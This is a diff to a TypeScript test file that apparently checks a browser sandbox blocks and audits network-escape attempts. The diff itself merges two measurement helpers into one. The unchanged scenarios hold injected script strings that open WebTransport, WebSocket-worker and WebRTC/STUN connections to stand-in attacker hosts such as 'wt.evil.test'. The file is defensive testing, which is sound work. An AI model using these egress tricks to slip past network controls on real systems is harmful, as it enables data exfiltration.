@@ -56,8 +56,8 @@ interface NetScenario {
 }
 
 const httpHits = (id: string) => evidence.http.get(id) ?? 0;
-const QUIC = (_id: string) => evidence.datagrams;
-const STUN = (_id: string) => evidence.datagrams;
+/** Datagrams carry no scenario id: each scenario's run starts from zero (reset). */
+const datagrams = () => evidence.datagrams;
 
 const SCENARIOS: NetScenario[] = [
   { id: 'worker-websocket', script: (evil) => `new Worker('/worker.js?u=' + encodeURIComponent(${JSON.stringify(evil('worker-websocket').replace('http:', 'ws:'))}));`, measure: httpHits, audited: null },
@@ -76,13 +76,13 @@ const SCENARIOS: NetScenario[] = [
   {
     id: 'webtransport',
     script: (_evil, port) => `try { new WebTransport('https://wt.evil.test:${port}/hit/webtransport').ready.catch(() => {}); } catch (e) {}`,
-    measure: QUIC,
+    measure: datagrams,
     audited: (e) => e.type === 'request.blocked' && e.reason === 'service-worker-webtransport-not-permitted',
   },
   {
     id: 'webrtc-datachannel',
     script: (_evil, port) => `try { const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] }); pc.createDataChannel('chart'); pc.createOffer().then((o) => pc.setLocalDescription(o)); } catch (e) {}`,
-    measure: STUN,
+    measure: datagrams,
     audited: (e) => e.type === 'request.blocked' && e.reason === 'service-worker-webrtc-not-permitted',
   },
   {
@@ -90,7 +90,7 @@ const SCENARIOS: NetScenario[] = [
     id: 'stun-udp',
     calls: true,
     script: (_evil, port) => `const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] }); pc.createDataChannel('chart'); pc.createOffer().then((o) => pc.setLocalDescription(o));`,
-    measure: STUN,
+    measure: datagrams,
     audited: (e) => e.type === 'request.blocked' && e.reason === 'service-worker-ice-server-not-approved',
   },
 ];
